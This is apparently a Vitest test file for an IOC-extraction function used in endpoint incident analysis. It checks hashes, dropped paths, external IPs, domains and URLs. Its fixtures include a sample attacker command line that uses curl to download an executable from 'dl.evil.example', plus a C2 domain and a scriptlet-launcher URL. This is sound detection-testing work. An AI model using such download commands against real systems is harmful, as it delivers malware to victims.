import { describe, expect, it } from 'vitest';
import { AnalysisError } from '../analysis-error.ts';
import { evidenceEvent, spawn, T0 } from '../testing/evidence-builder.ts';
import { extractIocs } from './extract-iocs.ts';
import { IocReport } from './ioc.ts';

const SHA_A = 'a'.repeat(64);
const SHA_B = 'b'.repeat(64);
const SHA_C = 'c'.repeat(64);
const DROPPED = 'C:\\Users\\ann\\AppData\\Local\\Temp\\upd.exe';
const SVCHOST = 'C:\\Windows\\System32\\svchost.exe';
const PS = {
  uid: 'P-PS',
  name: 'powershell.exe',
  imagePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
};
const SVC = (uid: string, sha256: string) => ({
  uid,
  name: 'svchost.exe',
  imagePath: SVCHOST,
  sha256,
});

const values = (report: IocReport) => report.iocs.map((ioc) => `${ioc.type} ${ioc.value}`);

describe('extractIocs', () => {
  it('reports a dropped program with its hashes and cites the events', () => {
    const report = extractIocs({
      events: [
        spawn({
          id: 'e1',
          time: T0,
          parent: PS,
          child: {
            uid: 'P-UPD',
            name: 'upd.exe',
            imagePath: DROPPED,
            sha256: SHA_A,
            md5: 'd'.repeat(32),
            sha1: 'bad',
          },
        }),
      ],
    });

    expect(report.iocs).toEqual([
      {
        type: 'sha256',
        value: SHA_A,
        count: 1,
        firstSeen: T0,
        eventIds: ['e1'],
        sources: ['target.process.imagePath.sha256'],
      },
      {
        type: 'md5',
        value: 'd'.repeat(32),
        count: 1,
        firstSeen: T0,
        eventIds: ['e1'],
        sources: ['target.process.imagePath.md5'],
      },
      {
        type: 'path',
        value: DROPPED,
        count: 1,
        firstSeen: T0,
        eventIds: ['e1'],
        sources: ['target.process.imagePath'],
      },
    ]);
    expect(IocReport.safeParse(report).success).toBe(true);
  });

  it('filters Windows binaries unless one copy has a different hash', () => {
    const normal = extractIocs({
      events: [
        evidenceEvent({ id: 'n1', process: SVC('S1', SHA_A) }),
        evidenceEvent({ id: 'n2', process: SVC('S2', SHA_A) }),
      ],
    });
    const swapped = extractIocs({
      events: [
        evidenceEvent({ id: 's1', process: SVC('S1', SHA_A) }),
        evidenceEvent({ id: 's2', process: SVC('S2', SHA_A) }),
        evidenceEvent({ id: 's3', process: SVC('S3', SHA_B) }),
      ],
    });

    expect(normal.iocs).toEqual([]);
    expect(normal.filtered).toEqual([{ reason: 'system-binary', count: 1, examples: [SVCHOST] }]);
    expect(swapped.iocs.map((ioc) => [ioc.type, ioc.value, ioc.eventIds, ioc.note])).toEqual([
      ['sha256', SHA_B, ['s3'], 'hash differs from other copies of this system binary in the case'],
      ['path', SVCHOST, ['s3'], 'hash differs from other copies of this system binary in the case'],
    ]);
  });

  it('reports dropped files by type and ignores logs, policy tests and Windows updates', () => {
    const write = (id: string, path: string, actor = PS, sha256?: string) =>
      evidenceEvent({
        id,
        time: T0 + Number(id.slice(1)),
        type: 'File Creation',
        process: actor,
        target: { file: { path, ...(sha256 === undefined ? {} : { sha256 }) } },
      });
    const report = extractIocs({
      events: [
        write('f1', DROPPED, PS, SHA_C),
        write('f2', 'C:\\Users\\ann\\AppData\\Local\\Temp\\notes.log'),
        write('f3', 'C:\\Users\\ann\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12.cd3.ps1'),
        write('f4', 'C:\\Windows\\System32\\newdriver.dll', {
          uid: 'TI',
          name: 'TiWorker.exe',
          imagePath: 'C:\\Windows\\WinSxS\\x\\TiWorker.exe',
        }),
        write('f5', 'C:\\ProgramData\\Intel\\dump.bin', {
          uid: 'R',
          name: 'rundll32.exe',
          imagePath: 'C:\\Windows\\System32\\rundll32.exe',
        }),
      ],
    });

    expect(values(report)).toEqual([
      `sha256 ${SHA_C}`,
      `path ${DROPPED}`,
      'path C:\\ProgramData\\Intel\\dump.bin',
    ]);
  });

  it('keeps internet peers and drops internal ones and Windows components calling out', () => {
    const connect = (
      id: string,
      process: object,
      dstIp: string,
      direction = 'OUTGOING',
      srcIp = '10.0.0.5',
    ) =>
      evidenceEvent({
        id,
        type: 'IP Connect',
        process,
        target: { network: { srcIp, dstIp, dstPort: 443, direction } },
      });
    const report = extractIocs({
      events: [
        connect('c1', PS, '203.0.113.9'),
        connect('c2', PS, '10.10.0.10'),
        connect('c3', SVC('S1', SHA_A), '192.0.2.31'),
        connect('c4', SVC('S1', SHA_A), '10.0.0.5', 'INCOMING', '87.251.64.138'),
      ],
    });

    expect(values(report).filter((value) => value.startsWith('ip'))).toEqual([
      'ip 203.0.113.9',
      'ip 87.251.64.138',
    ]);
    expect(report.filtered.map((entry) => [entry.reason, entry.count])).toEqual([
      ['private-ip', 1],
      ['os-component-traffic', 1],
      ['system-binary', 2],
    ]);
  });

  it('reads domains and URLs from DNS, URL events and command lines', () => {
    const report = extractIocs({
      events: [
        evidenceEvent({
          id: 'd1',
          type: 'DNS Resolved',
          process: PS,
          target: { dns: { request: 'C2.Evil.example' } },
        }),
        evidenceEvent({
          id: 'd2',
          type: 'DNS Resolved',
          process: PS,
          target: { dns: { request: 'ctldl.windowsupdate.com' } },
        }),
        evidenceEvent({
          id: 'u1',
          type: 'GET',
          process: PS,
          target: { url: { address: 'http://10.10.10.5:8444/launcher.sct' } },
        }),
        spawn({
          id: 'p1',
          parent: PS,
          child: {
            uid: 'C',
            name: 'cmd.exe',
            cmdline: 'cmd /c curl -o a.exe https://dl.evil.example/a.exe',
          },
        }),
      ],
    });

    expect(values(report).filter((value) => !value.startsWith('path'))).toEqual([
      'url http://10.10.10.5:8444/launcher.sct',
      'url https://dl.evil.example/a.exe',
      'domain c2.evil.example',
      'domain dl.evil.example',
    ]);
    expect(report.filtered.find((entry) => entry.reason === 'microsoft-domain')?.examples).toEqual([
      'ctldl.windowsupdate.com',
    ]);
  });

  it('counts repeats and caps the cited ids', () => {
    const events = Array.from({ length: 5 }, (_, i) =>
      evidenceEvent({
        id: `r${i}`,
        time: T0 + i,
        type: 'DNS Resolved',
        process: PS,
        target: { dns: { request: 'x.evil.example' } },
      }),
    );

    const [ioc] = extractIocs({ events, maxEventIds: 2 }).iocs;

    expect([ioc?.count, ioc?.eventIds]).toEqual([5, ['r0', 'r1']]);
  });

  it('rejects input that is not evidence', () => {
    expect(() => extractIocs({ events: 'nope' } as never)).toThrow(AnalysisError);
  });
});
